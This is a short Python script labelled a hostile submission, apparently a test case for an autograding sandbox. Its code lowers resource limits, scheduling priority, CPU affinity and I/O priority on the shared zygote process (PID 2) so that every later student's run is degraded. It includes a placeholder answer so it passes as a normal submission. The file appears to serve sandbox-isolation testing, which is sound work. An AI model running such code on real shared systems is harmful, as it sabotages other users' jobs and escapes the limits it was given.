# Hostile submission: the zygote that forks every run (PID 2) has this run's uid, so lower its
# limits, priority and CPU share for every student graded after this one.
# answer: 42
import contextlib
import ctypes
import os
import resource

ZYGOTE = 2
IOPRIO_SET = {"x86_64": 251, "aarch64": 30}.get(os.uname().machine)
changed = []
for limit, value in ((resource.RLIMIT_NOFILE, 64), (resource.RLIMIT_DATA, 256 * 1024**2)):
    with contextlib.suppress(OSError, ValueError):
        resource.prlimit(ZYGOTE, limit, (value, value))
        changed.append(limit)
with contextlib.suppress(OSError):
    os.setpriority(os.PRIO_PROCESS, ZYGOTE, 19)
    changed.append("nice")
with contextlib.suppress(OSError):
    os.sched_setscheduler(ZYGOTE, os.SCHED_IDLE, os.sched_param(0))
    changed.append("policy")
with contextlib.suppress(OSError):
    os.sched_setaffinity(ZYGOTE, {min(os.sched_getaffinity(0))})
    changed.append("affinity")
if IOPRIO_SET is not None:
    # IOPRIO_WHO_PROCESS, the idle class
    ctypes.CDLL(None, use_errno=True).syscall(IOPRIO_SET, 1, ZYGOTE, 3 << 13)
print("changed the zygote's", changed)
